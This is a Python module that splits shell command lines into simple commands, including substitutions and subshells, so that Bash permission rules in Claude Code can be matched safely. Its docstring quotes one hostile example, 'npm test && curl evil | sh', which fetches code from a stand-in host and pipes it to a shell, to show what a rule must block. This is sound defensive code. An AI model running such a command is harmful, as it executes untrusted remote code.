"""Splitting a shell command into the commands it runs, for ``Bash(...)`` rules.

Claude Code matches Bash rules knowing the shell's operators: ``Bash(npm test:*)`` allows
``npm test --watch`` but not ``npm test && curl evil | sh``. :func:`command_segments` returns
each simple command of a command line (split at ``;``, ``&&``, ``||``, ``|``, ``&`` and new
lines outside quotes), and the contents of ``$(…)``, ``<(…)``, ``>(…)``, backticks and
``( … )`` subshells as segments of their own, recursively. Redirections stay part of
their segment. It is a matcher's view of the line, not a shell: anything it cannot make
sense of (an unclosed quote) makes the whole line one segment, which no prefix rule can
match unless it covers all of it.
"""

from __future__ import annotations

__all__ = ["command_segments", "has_substitution"]

_MAX_DEPTH = 8


def has_substitution(command: str) -> bool:
    """Whether ``command`` runs other commands inside it (``$(…)``, backticks, ``<(…)``)."""
    return "$(" in command or "`" in command or "<(" in command or ">(" in command


def _normalize(segment: str) -> str:
    return " ".join(segment.split())


def command_segments(command: str, *, _depth: int = 0) -> list[str]:
    """The simple commands of ``command``, whitespace-normalized, outermost first.

    ``"a && b | c"`` → ``["a", "b", "c"]``; ``"echo $(rm x)"`` → ``["echo $(rm x)", "rm x"]``.
    """
    segments: list[str] = []
    nested: list[str] = []
    current: list[str] = []
    i = 0
    n = len(command)
    quote: str | None = None

    def flush() -> None:
        text = _normalize("".join(current))
        current.clear()
        if text and text not in ("(", ")", "{", "}"):
            segments.append(text)

    while i < n:
        c = command[i]
        if quote == "'":
            current.append(c)
            if c == "'":
                quote = None
            i += 1
            continue
        if c == "\\" and i + 1 < n:
            current.append(command[i : i + 2])
            i += 2
            continue
        if quote == '"':
            if c == '"':
                quote = None
                current.append(c)
                i += 1
                continue
            if (c == "$" and command.startswith("$(", i)) or c == "`":
                end, inner = _substitution(command, i)
                if end < 0:
                    return [_normalize(command)] if _normalize(command) else []
                nested.append(inner)
                current.append(command[i:end])
                i = end
                continue
            current.append(c)
            i += 1
            continue
        if c in "'\"":
            quote = c
            current.append(c)
            i += 1
            continue
        if (c in "$<>" and command.startswith("(", i + 1)) or c == "`":
            end, inner = _substitution(command, i)
            if end < 0:
                return [_normalize(command)] if _normalize(command) else []
            nested.append(inner)
            current.append(command[i:end])
            i = end
            continue
        if c == "(" and not "".join(current).strip():
            end, inner = _group(command, i)
            if end < 0:
                return [_normalize(command)] if _normalize(command) else []
            nested.append(inner)
            i = end
            continue
        if c in ";\n":
            flush()
            i += 1
            continue
        if c in "&|":
            double = command.startswith(c * 2, i)
            prev = command[i - 1] if i else ""
            nxt = command[i + 1] if i + 1 < n else ""
            # &> >& 2>&1 |& are redirections, not separators.
            if c == "&" and not double and (prev in "<>" or nxt == ">"):
                current.append(c)
                i += 1
                continue
            flush()
            i += 2 if double or (c == "|" and nxt == "&") else 1
            continue
        current.append(c)
        i += 1
    if quote is not None:
        return [_normalize(command)] if _normalize(command) else []
    flush()
    if _depth < _MAX_DEPTH:
        for inner in nested:
            segments.extend(command_segments(inner, _depth=_depth + 1))
    elif nested:
        segments.extend(_normalize(inner) for inner in nested if _normalize(inner))
    return segments


def _substitution(command: str, start: int) -> tuple[int, str]:
    """(index after it, inner text) of ``$(…)``/``<(…)``/``>(…)``/`` `…` `` at ``start``."""
    if command[start] == "`":
        end = command.find("`", start + 1)
        while end > 0 and command[end - 1] == "\\":
            end = command.find("`", end + 1)
        if end < 0:
            return -1, ""
        return end + 1, command[start + 1 : end]
    end, inner = _group(command, start + 1)
    return end, inner


def _group(command: str, open_at: int) -> tuple[int, str]:
    """(index after the matching ``)``, inner text) for the ``(`` at ``open_at``."""
    depth = 0
    quote: str | None = None
    i = open_at
    n = len(command)
    while i < n:
        c = command[i]
        if quote is not None:
            if c == quote:
                quote = None
            elif c == "\\" and quote == '"':
                i += 1
        elif c == "\\":
            i += 1
        elif c in "'\"":
            quote = c
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0:
                return i + 1, command[open_at + 1 : i]
        i += 1
    return -1, ""
